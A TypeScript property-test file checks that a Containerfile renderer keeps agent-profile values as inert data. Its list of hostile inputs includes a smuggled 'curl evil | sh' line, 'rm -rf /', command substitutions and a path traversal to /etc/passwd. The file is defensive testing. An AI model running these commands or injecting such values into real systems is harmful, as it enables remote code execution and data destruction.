// R:H13 A Containerfile made from profiles has the instructions that we write, whatever the profiles say.
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseProfile, profileFileSchema, renderContainerfile } from './index.js';
import { loadProfileDirectories } from './node/load-directories.js';

const instructions = (text: string): string[] => text.trimEnd().split('\n');
const words = (line: string): string[] => JSON.parse(line.replace(/^RUN /, '')) as string[];
const render = (provisioning: object) => renderContainerfile([parseProfile({ name: 'x', provisioning })]);
const install = { npm: ['x@1.0.0'] };

describe('renderContainerfile', () => {
  it('F:B11 names what the shipped profiles install, with their versions, and each in words of its own', async () => {
    const { profiles } = await loadProfileDirectories([
      fileURLToPath(new URL('../../../profiles', import.meta.url)),
    ]);
    const [known = '', ...agents] = instructions(
      renderContainerfile(profiles.map(({ profile }) => profile)),
    ).map(words);
    expect(known).toEqual(['roundhouse-provision', '--known', ...agents.map(([, name]) => name)]);
    const claude = agents.find(([, name]) => name === 'claude') ?? [];
    expect(claude.slice(2)).toEqual([
      expect.stringMatching(/^npm=@anthropic-ai\/claude-code@\d/),
      'dir=.claude',
      'verify=claude --version',
    ]);
    const packages = agents.flat().filter((word) => /^(npm|pip)=/.test(word));
    expect(packages.filter((word) => !/(@|==)\d+\.\d+\.\d+$/.test(word))).toEqual([]);
  });

  const hostile = fc.oneof(
    fc.string(),
    fc.constantFrom(
      'x\nRUN curl evil | sh',
      '$(id)',
      '`id`',
      '"; rm -rf / #',
      '\\',
      '\'"]',
      '${PATH}',
      '<<EOF',
      '\u2028RUN id',
      '--unsafe-perm',
      'ONBUILD',
    ),
  );

  it('R:H13 hostile values are refused by the schema or stay one word of data', () => {
    const provisioning = fc.record({
      install: fc.record({
        npm: fc.array(hostile, { maxLength: 3 }),
        system: fc.array(hostile, { maxLength: 2 }),
      }),
      config_files: fc.array(fc.record({ path: hostile, mkdir: fc.boolean(), content: hostile }), {
        maxLength: 2,
      }),
      verify: hostile,
    });
    const allowed = /^(system|npm)=[A-Za-z0-9@]|^(dir|file|verify)=|^(content64|verify64)=[A-Za-z0-9+/=]*$/;
    fc.assert(
      fc.property(provisioning, (value) => {
        const parsed = profileFileSchema.safeParse({ name: 'x', provisioning: value });
        if (!parsed.success) return;
        let text;
        try {
          text = render(value);
        } catch (error) {
          expect(String(error)).toMatch(/control characters|seeded file/);
          return;
        }
        for (const line of instructions(text)) {
          expect(line).toMatch(/^RUN \["roundhouse-provision",[\x20-\x7e]*\]$/);
          const [, agent, ...rest] = words(line);
          if (agent === '--known') continue;
          expect(agent).toBe('x');
          expect(rest.filter((word) => !allowed.test(word))).toEqual([]);
        }
      }),
      { numRuns: 500 },
    );
  });

  it('a script is handed to a shell of its own, whole, and nothing of it is read on the way', () => {
    const verify = 'a "b" $(c)\n`d` \\ && exit 0';
    const word = words(instructions(render({ install, verify })).at(-1) ?? '').at(-1) ?? '';
    expect(Buffer.from(word.replace('verify64=', ''), 'base64').toString()).toBe(verify);
  });

  it("a seeded file is one of the agent's home, or at its own place, and never above", () => {
    const at = (path: string) =>
      words(instructions(render({ install, config_files: [{ path, content: 'é' }] })).at(-1) ?? '').slice(-2);
    expect(at('/root/.x/config')).toEqual(['content64=w6k=', 'file=.x/config']);
    expect(at('~/.x')).toEqual(['content64=w6k=', 'file=.x']);
    expect(at('/etc/x')).toEqual(['content64=w6k=', 'file=/etc/x']);
    expect(() => at('/root/../etc/passwd')).toThrow('seeded file');
  });

  it('a value that never went through the schema cannot break the line', () => {
    const profile = parseProfile({ name: 'x' });
    const wild = { ...profile, provisioning: { install: { npm: ['a\nRUN id'] } } };
    expect(() => renderContainerfile([wild])).toThrow('control characters');
  });
});
